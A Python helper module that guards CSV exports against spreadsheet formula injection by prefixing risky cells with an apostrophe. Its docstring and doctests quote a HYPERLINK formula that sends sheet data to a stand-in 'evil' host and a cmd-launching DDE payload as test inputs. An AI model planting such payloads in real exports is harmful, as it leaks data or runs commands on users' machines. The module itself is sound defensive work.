"""Spreadsheet-safe cells for the CSV-based exports (csv, polis).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula when the file is opened in a spreadsheet: ``=HYPERLINK("http://evil/?"&A1, "click")``
in a comment would leak the sheet. Such cells get a leading apostrophe, which spreadsheets
show as text (OWASP's advice for CSV injection). A bullet (``- item``) and a plain negative
number are left alone: no spreadsheet evaluates them to anything but themselves.

Examples
--------
>>> formula_safe('=HYPERLINK("http://x", "y")'), formula_safe("- a bullet"), formula_safe("-3")
('\\'=HYPERLINK("http://x", "y")', '- a bullet', '-3')
>>> formula_safe("+1+cmd|' /C calc'!A0"), formula_safe("@SUM(A1)")
("'+1+cmd|' /C calc'!A0", "'@SUM(A1)")
"""

from __future__ import annotations

import re
from typing import Any

_TRIGGER = ("=", "+", "-", "@", "\t", "\r")
_HARMLESS = re.compile(r"[-+]\s|[-+]?\d+(?:\.\d+)?\Z")


def formula_safe(value: Any) -> Any:
    """``value`` with a leading ``'`` when a spreadsheet would take it for a formula."""
    if isinstance(value, str) and value.startswith(_TRIGGER) and not _HARMLESS.match(value):
        return "'" + value
    return value
